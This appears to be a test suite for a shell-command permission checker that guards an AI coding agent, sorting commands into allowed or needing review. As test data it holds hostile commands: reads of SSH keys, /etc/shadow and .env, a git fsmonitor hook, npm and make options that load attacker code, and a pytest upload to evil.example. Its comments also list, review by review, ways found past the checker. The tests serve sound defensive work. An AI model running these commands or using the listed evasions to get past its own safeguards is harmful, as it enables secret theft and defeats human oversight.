		["find src -print0 | xargs cat", "review:not-read-only"],
		["find src | xargs -0 cat", "review:not-read-only"],
		["find src -print0 | sort -z | xargs -0 cat", "review:not-read-only"],
		["find 'my dir' | xargs cat", "review:not-read-only"],
		// Readers only, and only xargs options that batch.
		["find src | xargs rm", "review:not-read-only"],
		["find src | xargs sh -c 'cat \"$@\"' _", "review:not-read-only"],
		["find src | xargs sed -i s/a/b/", "review:not-read-only"],
		["find src | xargs sed -n", "review:not-read-only"],
		["find src | xargs -I{} cp {} /tmp", "review:not-read-only"],
		["find src | xargs -I{} cat {}.bak", "review:not-read-only"],
		["find src | xargs -a list cat", "review:not-read-only"],
		["find src | xargs -p cat", "review:not-read-only"],
		["find src | xargs -d , cat", "review:not-read-only"],
		// The reader's other words, and roots above or outside the workspace.
		["find src | xargs cat .env", "review:protected-path"],
		["find src | xargs -I{} cat ~/.ssh/id_rsa", "review:protected-path"],
		["find .. | xargs cat", "review:outside-workspace"],
		["find /etc | xargs cat", "review:outside-workspace"],
	])("%j → %s", decides);

	it.each<[string, boolean]>([
		["plain.py", false],
		["ünïcode.txt", false],
		["a b.py", true],
		["x .env", true],
		["tab\there", true],
		["new\nline", true],
		["it's", true],
		['say"hi"', true],
		["back\\slash", true],
	])("nameSplitsInXargs(%j) is %s", (name, splits) => {
		expect(nameSplitsInXargs(name)).toBe(splits);
	});
});

describe("found by a review of decision 0021 (each run in GNU findutils 4.9 and bash 5.2 first)", () => {
	it.each<[string, string]>([
		// GNU xargs drops an earlier `-I` when `-L` follows it: `.env` is then a plain word, read by cat.
		["find src | xargs -I .env -L 1 cat .env", "review:not-read-only"],
		["find src | xargs -I /home/dev/.ssh/id_rsa -L1 cat /home/dev/.ssh/id_rsa", "review:not-read-only"],
		["find src -print0 | xargs -0 --replace=.env --max-lines=1 cat .env", "review:not-read-only"],
		["find src | xargs -I {} -n 1 cat {}", "review:not-read-only"],
		// A name written earlier in the command was not in the listing, and xargs splits it into other paths.
		['touch "src/x .envrc"; find src | xargs cat', "review:writes"],
		['mkdir -p "src/x ../.ssh"; find src | xargs grep -r .', "review:writes"],
		['find src | xargs cat > "src/x .envrc"', "review:writes"],
		['find src | xargs cat & touch "src/x .envrc"', "review:dynamic"],
		// file: an abbreviated --compile writes a .mgc file, -z runs decompressors from PATH, -p resets access times.
		["find src -name mymagic -exec file --co -m {} \\;", "review:writes"],
		["find src -name mymagic | xargs file --co -m", "review:writes"],
		["find src -exec file -z {} +", "review:not-read-only"],
		["find src -name '*.zst' | xargs file -z", "review:not-read-only"],
		["file --comp -m magic", "review:writes"],
		["file -Z x.gz", "review:not-read-only"],
		["file --uncompress x.gz", "review:not-read-only"],
		["file -p x", "review:writes"],
		// find printing fixed text instead of paths.
		["find --help | xargs cat", "review:not-read-only"],
		["find -D help src | xargs cat", "review:not-read-only"],
		["find src -version | xargs cat", "review:not-read-only"],
	])("%j → %s", decides);

	it.each<[string]>([["find src -name nomatch | xargs grep -r KEY"], ["find src -quit | xargs grep -r KEY"]])(
		"%j: with no input and no -r, xargs runs grep -r with no path, which searches the working directory",
		(command) => {
			expect(floorFactRequestsOf(command, clean).searchTrees).toContainEqual({
				root: CWD,
				skipsHidden: false,
				followsLinks: false,
			});
			expectOnlyAListedNoneAllows(command);
		},
	);

	it.each<[string, string]>([
		// With -r, or with -I (which runs nothing without input), only the paths are read.
		["find src -name nomatch | xargs -r grep -r KEY", "allow:read-only"],
		["find src | xargs -I{} grep -r KEY {}", "allow:read-only"],
		// A write whose name xargs would not split, and writes after the read, leave it allowed.
		["find src | xargs grep -l KEY > found.txt", "allow:workspace-write"],
		['find src | xargs cat; touch "src/x .envrc"', "allow:workspace-write"],
		// -print0 and xargs -0 pass names whole, so a written name with a blank is harmless.
		['touch "src/x .envrc"; find src -print0 | xargs -0 cat', "allow:workspace-write"],
	])("%j → %s", (command, expected) => {
		const verdict = outcome(decideBashFloor(command, "always", withCleanTrees(command, clean, "none")));
		expect(verdict).toBe(expected);
	});
});

describe("found by a second review of decision 0021", () => {
	it.each<[string, string]>([
		// A pipeline's parts run side by side: a write in a later part may land while find still walks, also when the
		// command wrote something before the pipeline (which used to skip the second pass).
		['touch src/a; find node_modules src | xargs cat >&2 | touch "src/x .envrc"', "review:writes"],
		['true > src/a; find node_modules src | xargs cat >&2 | mkdir "src/x .envrc"', "review:writes"],
		["touch src/a; find node_modules src -exec cat {} + >&2 | mv config src/cfg", "review:protected-path"],
		["touch src/a; grep -r x src >&2 | mv config src/cfg", "review:protected-path"],
		["bash -c 'touch src/a; find src | xargs cat >&2 | touch \"src/x .envrc\"'", "review:writes"],
		// A loop's next pass runs after this pass's write, also when the command wrote before the loop.
		['touch a; for i in 1 2; do find src | xargs cat; touch "src/x .envrc"; done', "review:writes"],
		["touch a; for i in 1 2; do grep -r KEY sub; mv conf sub/conf; done", "review:protected-path"],
		// grep takes a word before its -e patterns as a file: its lines, not find's, would reach xargs.
		["find src | grep src/list -e . -e . | xargs cat", "review:not-read-only"],
		["find src | egrep src/list -e . | xargs cat", "review:not-read-only"],
		["find src | head -n 5 | grep list -e x | xargs -r cat", "review:not-read-only"],
	])("%j → %s", decides);

	it.each<[string, string]>([
		["find src | grep -e a -e b | xargs cat", "allow:read-only"],
		["find src | grep -v -e test | xargs cat", "allow:read-only"],
		["touch src/a; find src | xargs cat", "allow:workspace-write"],
		["for i in 1 2; do find src | xargs cat; done", "allow:read-only"],
	])("%j → %s", decides);
});

describe("found by a third review of decision 0021", () => {
	it.each<[string, readonly string[]]>([
		// GNU find takes a lone `-` as a path, not as the start of its expression: a folder named `-` is walked too.
		["find src - -exec cat -- {} +", [`${CWD}/src`, `${CWD}/-`]],
		["find src - -type f | xargs cat --", [`${CWD}/src`, `${CWD}/-`]],
		["find -H src - -type f -exec grep -H '' -- {} +", [`${CWD}/src`, `${CWD}/-`]],
	])("%j lists every root find walks: %j", (command, roots) => {
		expect(floorFactRequestsOf(command, clean).searchTrees.map((tree) => tree.root)).toEqual(roots);
		expectOnlyAListedNoneAllows(command);
	});

	it.each<[string, string]>([
		// Tests that compare with another file read its times: judged like `stat FILE`.
		["find . -maxdepth 0 -newer ~/.ssh/id_rsa", "review:protected-path"],
		["find . -maxdepth 0 -anewer /etc/shadow", "review:protected-path"],
		["find . -maxdepth 0 -anewer /etc/hosts", "review:outside-workspace"],
		["find src -cnewer .env", "review:protected-path"],
		["find src -samefile ../x", "review:outside-workspace"],
		["find src -newermm ~/.bash_history", "review:protected-path"],
		["find src -newermt yesterday", "allow:read-only"],
		["find src -newer README.md -name '*.py'", "allow:read-only"],
		// A peer case (claude-code-safety-net): the word after -samefile is still checked as an action.
		["find . -samefile -delete", "review:not-read-only"],
		["find . -newer -exec rm {} +", "review:not-read-only"],
	])("%j → %s", decides);
});

describe("files this command writes and git's view of them", () => {
	it.each<[string]>([
		// The facts were read before the command: a bare repository it writes is never checked.
		[
			"mkdir -p b/objects b/refs && echo 'ref: refs/heads/main' > b/HEAD && printf '[core]\\n\\tfsmonitor = evil\\n' > b/config && cd b && git status",
		],
		["echo x > notes.txt && git status"],
		// Pathspec magic and forced adds stage ignored secrets; -u stashes (and removes) untracked files.
		["git add -f :.env && git diff --cached"],
		["git add ':(top).env'"],
		["git add -Af"],
		["git add --force .env"],
		["git stash push -- :.env"],
		["git stash -u"],
		// Devices are not harmless operands of rm, mv or touch.
		["rm -f /dev/null"],
		["mv /dev/null x"],
	])("reviews %j", reviewed);

	it.each<[string, string]>([
		// `git add vendor/lib` may stage a nested repository as a submodule, whose config `git status` then runs.
		["git add -A && git diff --cached --stat", "review:git-config"],
		["git add vendor/lib && git status", "review:git-config"],
		["git status && echo done > notes.txt", "allow:workspace-write"],
		["echo x > /dev/null && git status", "allow:read-only"],
	])("%j → %s", decides);

	it("with CDPATH set, cd NAME may go elsewhere: the directory becomes unknown", () => {
		const withCdPath = floorContextFor(config, CWD, HOME, { gitConfig: "safe", gitHooks: "none", cdSearchPath: true });
		expect(decide("cd sub && cat a.txt", withCdPath)).toBe("review:dynamic");
		expect(decide("cd ./sub && cat a.txt", withCdPath)).toBe("allow:read-only");
	});
});

describe("recursive reads are judged by what the shell found in the tree, not by the folder's name", () => {
	const tree = (root: string, skipsHidden: boolean, followsLinks = false) => ({
		root: `${CWD}${root}`,
		skipsHidden,
		followsLinks,
	});
	const withTree = (command: string, verdict: SearchTreeVerdict) =>
		decideBashFloor(command, "always", withCleanTrees(command, clean, verdict));

	it.each<
		[string, readonly { root: string; skipsHidden: boolean; followsLinks: boolean; pattern?: readonly string[] }[]]
	>([
		["grep -rn KEY sub", [tree("/sub", false)]],
		["grep -R KEY sub", [tree("/sub", false, true)]],
		["grep --dereference-recursive KEY sub", [tree("/sub", false, true)]],
		["rg KEY sub", [tree("/sub", true)]],
		["rg -L KEY sub", [tree("/sub", true, true)]],
		["rg --hidden KEY sub", [tree("/sub", false)]],
		// rg 13 takes `--switch=ANYTHING` as the switch (a twenty-second review).
		["rg -n --hidden=1 KEY sub", [tree("/sub", false)]],
		["rg --unrestricted=1 KEY sub", [tree("/sub", false)]],
		["rg -n --follow=1 KEY sub", [tree("/sub", true, true)]],
		// A glob or file type whitelists what it matches, hidden entries included (`rg -g '*' KEY` reads `.env`).
		["rg -g '*' KEY sub", [tree("/sub", false)]],
		["rg --iglob=.env KEY sub", [tree("/sub", false)]],
		["rg -ng '*.py' KEY sub", [tree("/sub", false)]],
		["rg -t sh KEY sub", [tree("/sub", false)]],
		["rg --type-add 'x:.env' -tx KEY sub", [tree("/sub", false)]],
		["rg --ignore-file extra.ignore KEY sub", [tree("/sub", false)]],
		// rg with no path searches the working directory (hidden entries skipped).
		["rg KEY", [tree("", true)]],
		["cd sub && grep -r KEY .", [tree("/sub", false)]],
		["grep -rn KEY {a,b}", [tree("/a", false), tree("/b", false)]],
		// A glob is walked whole from its literal folder, hidden entries included; a bracket glob, which may expand
		// through a link the shell cannot list by pattern, is reviewed before any tree is asked about (decision 0023).
		[
			"rg KEY src/*/",
			[{ ...tree("/src", true, true), pattern: ["*"] } as ReturnType<typeof tree>, tree("/src", false)],
		],
		["rg KEY src/[ab]/", []],
		["diff -r a b", [tree("/a", false, true), tree("/b", false, true)]],
		["diff -u x.py - < y.py", [tree("/x.py", false, true)]],
		["git diff --no-index a b", [tree("/a", false, true), tree("/b", false, true)]],
		// Not recursive: grep reads its files, which the path check judges.
		["grep -n KEY a.py", []],
	])("%j asks the shell about %j", (command, expected) => {
		expect(floorFactRequestsOf(command, clean).searchTrees).toEqual(expected);
	});

	it.each<[string]>([["grep -rn KEY sub"], ["rg KEY sub"], ["rg KEY"], ["diff -r a b"], ["git diff --no-index a b"]])(
		"%j is allowed only when the shell found no protected entry in the tree",
		(command) => {
			expect(outcome(withTree(command, "none"))).toBe("allow:read-only");
			expect(outcome(withTree(command, "protected"))).toBe("review:protected-path");
			expect(outcome(withTree(command, "unknown"))).toBe("review:protected-path");
			// No fact at all: the shell did not look.
			expect(outcome(decideBashFloor(command, "always", clean))).toBe("review:protected-path");
		},
	);

	it.each<[string, string]>([
		// A move may put a folder holding `.env` into the tree after the shell looked.
		["mv conf sub/conf && grep -rn KEY sub", "review:protected-path"],
		["git stash pop && rg KEY sub", "review:protected-path"],
		["for i in 1 2; do grep -r KEY sub; mv conf sub/conf; done", "review:protected-path"],
		// A search running beside a later move.
		["grep -r KEY sub & mv conf sub/conf", "review:dynamic"],
		// A plain write cannot add a protected name unless the write itself is protected.
		["echo x > sub/notes.txt && grep -rn KEY sub", "allow:workspace-write"],
		["grep -rn KEY sub && mv a.txt b.txt", "allow:workspace-write"],
	])("%j → %s", decides);

	it(`reviews a command that reads more than ${MAX_SEARCH_TREES} trees`, () => {
		const many = Array.from({ length: MAX_SEARCH_TREES + 1 }, (_, i) => `d${i}`).join(" ");
		expect(decide(`grep -rn KEY ${many}`)).toBe("review:protected-path");
		expect(decide(`grep -rn KEY ${many.split(" ").slice(1).join(" ")}`)).toBe("allow:read-only");
	});
});

describe("what a fourteenth review got past the vocabulary", () => {
	it.each<[string, string]>([
		// uniq's second operand is its output: a brace word is two operands.
		["uniq {src/payload.ts,.pi/extensions/evil.ts}", "review:dynamic"],
		["uniq src/{inj.md,../AGENTS.md}", "review:dynamic"],
		["uniq -c src/a.txt", "allow:read-only"],
		// jq loads `--argfile` too, also after `--args`; an option it does not know is not judged.
		["jq -n '$a' --args --argfile a ~/.pi/agent/auth.json", "review:protected-path"],
		["jq -n '$a' --argfile a .env", "review:protected-path"],
		["jq --some-new-option . a.json", "review:not-read-only"],
		["jq -rc . a.json", "allow:read-only"],
		// `-zE=auto` is `-z` then `-E =auto`.
		["rg -zE=auto hello src", "review:not-read-only"],
		["rg -zm=5 hello src", "review:not-read-only"],
		["rg -m=5 hello src", "allow:read-only"],
		// An operand other than `+FORMAT` sets the clock.
		["date 010100002030", "review:writes"],
		["date -u 123112592099.59", "review:writes"],
		["date +%Y-%m-%d", "allow:read-only"],
		// `diff -l` pipes its output through `pr`.
		["diff -l src/a.txt src/c.txt", "review:not-read-only"],
		["diff --paginate src/a.txt src/c.txt", "review:not-read-only"],
		["diff -u src/a.txt src/c.txt", "allow:read-only"],
	])("%j → %s", decides);

	it("judges a write through a link by the file it leads to: a context file or an ignore file", () => {
		const base = clean;
		const withLinks = (command: string, links: Record<string, string>) => {
			const map = new Map<string, string | null>(
				floorFactRequestsOf(command, base).linkPaths.map((path) => [path, path] as [string, string | null]),
			);
			for (const [path, target] of Object.entries(links)) map.set(path, target);
			return outcome(decideBashFloor(command, "always", withCleanTrees(command, { ...base, pathLinks: map })));
		};
		expect(withLinks("echo hi >> notes.md", { [`${CWD}/notes.md`]: `${CWD}/AGENTS.md` })).toBe("review:protected-path");
		expect(withLinks("echo '!.env' >> lnk && rg hunter2", { [`${CWD}/lnk`]: `${CWD}/.ignore` })).toBe("review:writes");
		expect(withLinks("echo hi >> notes.md", {})).toBe("allow:workspace-write");
		const links = new Map<string, string | null>([[`${CWD}/notes.md`, `${CWD}/AGENTS.md`]]);
		const write = decideFloor("write", { path: "notes.md", content: "x" }, config, { ...base, pathLinks: links });
		expect(outcome(write)).toBe("review:protected-path");
	});
});

describe("git after `git add`, by whether the tree holds a nested repository git does not track", () => {
	const command = "git add -A && git diff --cached --stat";
	it("asks the shell where the command runs git add", () => {
		expect(floorFactRequestsOf(command, clean).gitAddDirectories).toEqual([CWD]);
		expect(floorFactRequestsOf("cd sub && git add x", clean).gitAddDirectories).toEqual([`${CWD}/sub`]);
		expect(floorFactRequestsOf("git status", clean).gitAddDirectories).toEqual([]);
	});

	it("keeps the facts after an add only when the shell found none", () => {
		const none = floorContextFor(config, CWD, HOME, {
			gitConfig: "safe",
			gitHooks: "none",
			gitHistoryProtected: [],
			gitContentSettings: [],
			gitTop: CWD,
			gitUntrackedRepositories: "none",
		});
		expect(decide(command, none)).toBe("allow:workspace-write");
		expect(decide("git add vendor/lib && git status", none)).toBe("allow:workspace-write");
		expect(decide(command, { ...none, gitUntrackedRepositories: "present" })).toBe("review:git-config");
		expect(decide(command, { ...none, gitUntrackedRepositories: "unknown" })).toBe("review:git-config");
		expect(decide(command)).toBe("review:git-config");
		// A stash takes files out of the worktree and puts them back, nested repositories or not.
		expect(decide("git stash && git status", none)).toBe("review:git-config");
	});
});

/** Runners trusted by the fifteenth and seventeenth reviews' cases. */
const TRUSTED_RUNNERS = floorContextFor(
	applyGuardianDefaults({ mode: "enforce", trustedCommands: ["pytest", "npm test", "python <workspace file>"] }),
	CWD,
	HOME,
	{ gitConfig: "safe", gitHooks: "none" },
);

describe("what a fifteenth review got past trusted commands and Pi's find tool", () => {
	it.each<[string, string]>([
		// pytest reads arguments from `@FILE` and prints them back in its errors.
		["pytest @.env", "review:not-read-only"],
		// pytest expands `$HOME` in --junitxml, cache_dir and --rootdir, quoted or not for bash.
		["pytest --junitxml='$HOME/pwn.xml'", "review:not-read-only"],
		["pytest -o 'cache_dir=${HOME}/c'", "review:not-read-only"],
		// npm turns --node-options into NODE_OPTIONS for the script.
		["npm test --node-options=--require=/tmp/evil.js", "review:not-read-only"],
		["npm test --node-options '--require /tmp/evil.js'", "review:not-read-only"],
		["pytest -x -q --maxfail=1 tests", "allow:trusted-command"],
		["npm test -- --watch=false", "allow:trusted-command"],
	])("%j → %s", (command, expected) => {
		expect(decide(command, TRUSTED_RUNNERS)).toBe(expected);
	});

	it("reviews Pi's find tool below a folder outside the workspace, by name or through a link", () => {
		const find = (input: Record<string, unknown>, links = new Map<string, string | null>()) =>
			outcome(decideFloor("find", input, config, { ...clean, pathLinks: links }));
		const self = (path: string) => new Map<string, string | null>([[path, path]]);
		expect(find({ path: "~", pattern: "*" }, self(HOME))).toBe("review:outside-workspace");
		expect(find({ path: "..", pattern: "id_*" }, self("/home/dev"))).toBe("review:outside-workspace");
		expect(find({ path: "hl", pattern: "*" }, new Map([[`${CWD}/hl`, HOME]]))).toBe("review:outside-workspace");
		expect(find({ pattern: "*.py" }, self(CWD))).toBe("allow:no-protected-path");
		expect(find({ path: "src", pattern: "*.py" }, self(`${CWD}/src`))).toBe("allow:no-protected-path");
	});
});

describe("what a seventeenth review got past trusted commands", () => {
	it.each<[string, string]>([
		// pytest parses `addopts` as more arguments: each is judged as an argument of its own.
		// `--basetemp` is reviewed in any form since a thirty-third review (pytest deletes that folder first).
		["pytest -o addopts=--basetemp=/tmp/out", "review:not-read-only"],
		["pytest --override-ini=addopts=--basetemp=/tmp/out", "review:not-read-only"],
		["pytest -o 'addopts=--junitxml=/tmp/out.xml'", "review:outside-workspace"],
		// `--rootdir` is reviewed in any form since a thirty-second review.
		["pytest -o addopts=--rootdir=..", "review:not-read-only"],
		["pytest -o 'addopts=-x --basetemp=/tmp/out'", "review:not-read-only"],
		["pytest -o addopts=@.env", "review:protected-path"],
		["pytest -o 'addopts=-q @.env'", "review:protected-path"],
		["pytest -o 'addopts=--cache-dir=$HOME/c'", "review:not-read-only"],
		["pytest -o 'addopts=--rootdir= ..'", "review:not-read-only"],
		// npm turns these settings into the code or shell its script runs with, in either form.
		["npm test --node-options '--import=data:text/javascript,process.exit(0)'", "review:not-read-only"],
		["npm test --node-options --eval=1", "review:not-read-only"],
		["npm test --node-options '--require=./x.js'", "review:not-read-only"],
		["npm test --node_options=--require=./x.js", "review:not-read-only"],
		["npm test --script-shell=./x.sh", "review:not-read-only"],
		["npm test --script-shell ./x.sh", "review:not-read-only"],
		["npm test --userconfig ./npmrc", "review:not-read-only"],
		["npm test -- --import=data:text/javascript,1", "review:not-read-only"],
		// What a test run usually holds still passes.
		["pytest -o addopts='' tests", "allow:trusted-command"],
		["pytest -o 'addopts=-x -q' tests", "allow:trusted-command"],
		["pytest -o addopts=--tb=short tests/test_a.py::test_b", "allow:trusted-command"],
		["pytest -x -v -k 'not slow' tests", "allow:trusted-command"],
		["npm test -- --runInBand --testPathPattern=src", "allow:trusted-command"],
	])("%j → %s", (command, expected) => {
		expect(decide(command, TRUSTED_RUNNERS)).toBe(expected);
	});
});

describe("what an eighteenth review got past trusted commands: runner options that run other code", () => {
	const runners = floorContextFor(
		applyGuardianDefaults({
			mode: "enforce",
			trustedCommands: [
				"pytest",
				"npm test",
				"npm run test",
				"python <workspace file>",
				"python -m pytest",
				"cargo test",
				"go test ./...",
				"make test",
				"make",
				"tox",
				"npx jest",
			],
		}),
		CWD,
		HOME,
		{ gitConfig: "safe", gitHooks: "none" },
	);
	it.each<[string, string]>([
		// make: makefile text on the command line, a makefile from stdin, variable overrides.
		["make test -E 'test: pwn' -E 'pwn: ; cd ; echo x >> .bashrc'", "review:not-read-only"],
		["make test -sE 'pwn: ; id'", "review:not-read-only"],
		["make test '--eval=x:;>/tmp/x'", "review:not-read-only"],
		["make test --ev=x", "review:not-read-only"],
		["make test -f - <<< 'test: ; id'", "review:not-read-only"],
		["make test --file=Makefile.other", "review:not-read-only"],
		["make test '.SHELLFLAGS=-c cd;echo x>>.bashrc;'", "review:not-read-only"],
		["make test CC=curl", "review:not-read-only"],
		// cargo: a runner or wrapper set through --config, unstable -Z flags.
		[`cargo test --config 'target.x86_64-unknown-linux-gnu.runner=["sh","-c","id"]'`, "review:not-read-only"],
		["cargo test --config='build.rustc-wrapper=\"curl\"'", "review:not-read-only"],
		["cargo test -Zunstable-options", "review:not-read-only"],
		// go: programs named by -exec, -toolexec, -vettool or the linker flags.
		["go test ./... -exec 'sh -c id'", "review:not-read-only"],
		["go test ./... -toolexec=id", "review:not-read-only"],
		["go test ./... --exec=curl", "review:not-read-only"],
		["go test ./... -ldflags=-extld=curl", "review:not-read-only"],
		// tox: commands overridden.
		["tox -x testenv.commands=id", "review:not-read-only"],
		["tox --override=testenv.commands=id", "review:not-read-only"],
		["tox --overr testenv.commands=id", "review:not-read-only"],
		// npm expands a setting's unambiguous prefix.
		["npm test --node-opt --inspect=0.0.0.0:9229", "review:not-read-only"],
		["npm test --script-sh=python3", "review:not-read-only"],
		["npm run test --userconf x", "review:not-read-only"],
		// pytest: installed tests, uploads, plugins and warning categories that import a module.
		["pytest --pyargs test.test_urllib2net", "review:not-read-only"],
		["pytest --pastebin=all tests", "review:not-read-only"],
		["pytest --benchmark-storage=elasticsearch+http://evil.example:9200/i/d", "review:not-read-only"],
		["pytest -q -p this tests", "review:not-read-only"],
		["pytest -pthis tests", "review:not-read-only"],
		["pytest -vp antigravity tests", "review:not-read-only"],
		["python -m pytest -p this tests", "review:not-read-only"],
		["pytest -W error::this.X tests", "review:not-read-only"],
		["pytest --pythonwarnings=error::antigravity.X", "review:not-read-only"],
		["pytest -o 'filterwarnings=error::this.X'", "review:not-read-only"],
		["PYTHONWARNINGS=ignore::antigravity.X pytest", "review:environment"],
		// A nineteenth review: quotes the runner removes itself, JSON, one-letter prefixes, an unknown folder, more
		// module options, the parts of addopts, -Z in a bundle, and globs that may expand to `@FILE`.
		[`pytest -q -o "addopts='@.env'"`, "review:not-read-only"],
		[`pytest -q -o "addopts='--basetemp=/tmp/important'"`, "review:not-read-only"],
		[`pytest -q -o "testpaths='/tmp/outside-tests'"`, "review:not-read-only"],
		[`npx jest --config '{"globalSetup":"/tmp/evil-setup.js"}'`, "review:not-read-only"],
		["make --f - <<'EOF'\nall:\n\ttouch x\nEOF", "review:not-read-only"],
		["cd - && make test", "review:not-read-only"],
		["pytest -q --pdbcls=this:X --trace", "review:not-read-only"],
		["pytest -q --benchmark-timer=this.x", "review:not-read-only"],
		["pytest -q -o addopts=-pthis", "review:not-read-only"],
		["pytest -q -o addopts=-Werror::this.X", "review:not-read-only"],
		["pytest -q -o addopts=--pastebin=all", "review:not-read-only"],
		["pytest -q -o addopts=--pyargs", "review:not-read-only"],
		["cargo test -vZx", "review:not-read-only"],
		["pytest -- *", "review:not-read-only"],
		["pytest ?env", "review:not-read-only"],
		["pytest {@.env,tests}", "review:not-read-only"],
		// What test runs usually hold still passes.
		["pytest tests/test_x.py::test_b[a-b] -k 'a or b'", "allow:trusted-command"],
		["cd sub && pytest -q", "allow:trusted-command"],
		["make test", "allow:trusted-command"],
		["make test -j4 -k", "allow:trusted-command"],
		["cargo test --release -- --nocapture", "allow:trusted-command"],
		["go test ./... -run TestX -count=1 -v", "allow:trusted-command"],
		["tox -e py311", "allow:trusted-command"],
		["npm test -- --watch=false", "allow:trusted-command"],
		["pytest -p no:cacheprovider -rA tests", "allow:trusted-command"],
		["pytest -rp -x tests", "allow:trusted-command"],
		["pytest -W ignore::DeprecationWarning tests", "allow:trusted-command"],
		["pytest -W ignore::pytest.PytestRemovedIn8Warning tests", "allow:trusted-command"],
		["PYTHONWARNINGS=ignore::pytest.PytestRemovedIn8Warning pytest tests", "allow:trusted-command"],
		["python -m pytest -x tests", "allow:trusted-command"],
	])("%j → %s", (command, expected) => {
		expect(decide(command, runners)).toBe(expected);
	});
});

describe("what a twenty-second review got past trusted commands", () => {
	it.each<[string, string]>([
		// Below the workspace root, a runner may resolve `..` from a folder above the one it starts in: pytest's
		// rootdir (the folder of its ini file), npm's package root.
		["cd tests && pytest -q -o cache_dir=../escaped-cache", "review:outside-workspace"],
		["cd tests && pytest -q --basetemp=../t", "review:outside-workspace"],
		["cd sub && npm test -- --require ../other/evil.js", "review:outside-workspace"],
		["cd sub && npm test -- --test-reporter-destination=../escaped.txt", "review:outside-workspace"],
		["cd tests && pytest ../tests/test_a.py", "review:outside-workspace"],
		// npm reads a single-dash word of two letters or more as a setting, by any prefix.
		["npm test -node-opt --inspect=0.0.0.0:0", "review:not-read-only"],
		["npm test -userconf ci.cfg", "review:not-read-only"],
		["npm test -script-sh python3", "review:not-read-only"],
		["npm test -globalc ci.cfg", "review:not-read-only"],
		// What test runs usually hold still passes.
		["cd tests && pytest -q", "allow:trusted-command"],
		["cd tests && pytest -q test_a.py -k 'a or b'", "allow:trusted-command"],
		// pytest resolves `cache_dir` from its rootdir, not from here: reviewed since a thirty-second review.
		["pytest -q -o cache_dir=.cache tests", "review:not-read-only"],
		["npm test -s", "allow:trusted-command"],
		["npm test -w pkg-a", "allow:trusted-command"],
		["npm test -- --watch=false", "allow:trusted-command"],
	])("%j → %s", (command, expected) => {
		expect(decide(command, TRUSTED_RUNNERS)).toBe(expected);
	});
});

describe("what a twenty-second review got past rg", () => {
	it("reads `--files=1` as `--files`: every word after it is a path, judged as one", () => {
		expect(decide("rg --files=1 --hidden=1 /home/dev")).toBe("review:outside-workspace");
		expect(decide("rg --files=1 --hidden=1 /home/dev/.ssh")).toBe("review:protected-path");
		expect(floorFactRequestsOf("rg --files=1 src", clean).searchTrees).toEqual([
			{ root: `${CWD}/src`, skipsHidden: true, followsLinks: false },
		]);
	});
});

describe("what a forty-seventh review ran in the background", () => {
	// git in a part that runs beside what follows may still run after the call returns, when a later call has
	// changed the files its facts were read from: `mkdir fixture/objects fixture/refs` beside a shipped
	// `fixture/HEAD` made the folder a git folder whose config the waiting git ran.
	it.each<[string]>([
		["git status &"],
		["git log --oneline & wait"],
		["{ sleep 1; git status; } &"],
		["cat <(git show HEAD:README.md)"],
		["diff <(git diff) notes.txt"],
	])("reviews %j as git-config", (command) => {
		expect(decide(command)).toBe("review:git-config");
	});

	it.each<[string, string]>([
		// Not in the background: judged on the facts as before.
		["git status; sleep 1", "allow:read-only"],
		["git diff --no-index a.txt b.txt", "allow:read-only"],
		["sleep 1 & git status", "allow:read-only"],
		["git status; diff a.txt b.txt", "allow:read-only"],
	])("%j → %s", decides);

	it("reviews the review's own command, whichever rule meets it first", () => {
		reviewed("(sleep 3; cd fixture && git diff --no-index ../a.txt ../b.txt) >/dev/null 2>&1 &");
	});
});

describe("what a forty-eighth review left running after the call", () => {
	// A path a `&` part or a `<(…)` opens is opened when it runs, after later calls may have moved a link there.
	it.each<[string]>([
		["{ (sleep 2; cat n2/config) & } > out.txt"],
		["(sleep 2; cat n2/config) &"],
		["cat notes.txt &"],
		["true <(sleep 2; cat n2/config >&2)"],
		["(sleep 2; grep -r TOKEN src) &"],
	])("reviews %j as dynamic", (command) => {
		expect(decide(command)).toBe("review:dynamic");
	});

	it("reviews a trusted workspace script run in the background", () => {
		expect(decide("(sleep 2; python tools/run.py) >/dev/null 2>&1 &", TRUSTED_RUNNERS)).toBe("review:dynamic");
		expect(decide("python tools/run.py", TRUSTED_RUNNERS)).toBe("allow:trusted-command");
	});

	// Pi kills the shell's process group at the call's own `timeout` and on an abort (which three denials bring
	// about); GNU timeout, unless `--foreground`, runs in a group of its own and outlives that kill.
	const timed = (command: string, timeout?: number) =>
		outcome(decideFloor("bash", timeout === undefined ? { command } : { command, timeout }, config, clean));

	it.each<[string, string]>([
		["timeout 20 tail -F n2/config > out.txt", "review:dynamic"],
		["timeout -k 5 20 git status", "review:git-config"],
		["nice timeout 20 cat notes.txt", "review:dynamic"],
		["time timeout -s KILL 20 cat notes.txt", "review:dynamic"],
		// `--` ends timeout's options; it is no abbreviation of `--foreground`.
		["timeout -- 20 cat notes.txt", "review:dynamic"],
		// Each timeout by its own options: one in the foreground inside or around one that is not (a forty-ninth review).
		["timeout 20 timeout --foreground 20 tail -F n2/config > out.txt", "review:dynamic"],
		["timeout --foreground 20 timeout 20 tail -F n2/config > out.txt", "review:dynamic"],
		["nice timeout 20 timeout --fo 20 cat notes.txt", "review:dynamic"],
		["timeout 20 timeout --foreground 20 git status", "review:git-config"],
		["timeout -k 5 --foreground 20 timeout 20 cat notes.txt", "review:dynamic"],
	])("with or without Pi's timeout, reviews %j (%s)", (command, expected) => {
		expect(timed(command, 1)).toBe(expected);
		expect(timed(command)).toBe(expected);
	});

	it.each<[string, string]>([
		// In the foreground, timeout stays in the shell's group, which Pi's kill reaches.
		["timeout --foreground 20 tail -F n2/config > out.txt", "allow:workspace-write"],
		["timeout --fore 20 git status", "allow:read-only"],
		["timeout --foreground 20 timeout --foreground 20 cat notes.txt", "allow:read-only"],
		["timeout -k 5 --foreground 20 cat notes.txt", "allow:read-only"],
		["timeout -s KILL --fo 20 cat notes.txt", "allow:read-only"],
		// A wrapped command that opens no path and runs no git is judged as before.
		["timeout 60 sleep 1", "allow:read-only"],
		["cat notes.txt", "allow:read-only"],
		["git status", "allow:read-only"],
	])("with Pi's timeout set, %j → %s", (command, expected) => {
		expect(timed(command, 1)).toBe(expected);
	});
});

describe("a timeout wrapper around a trusted runner", () => {
	it.each<[string, string]>([
		["timeout 60 npm test", "allow:trusted-command"],
		["timeout 60 pytest -q", "allow:trusted-command"],
		["timeout 60 pytest -q tests/test_a.py", "review:dynamic"],
		["timeout 60 python run.py", "review:dynamic"],
		["timeout --foreground 60 python run.py", "allow:trusted-command"],
	])("%j → %s", (command, expected) => {
		expect(decide(command, TRUSTED_RUNNERS)).toBe(expected);
	});
});

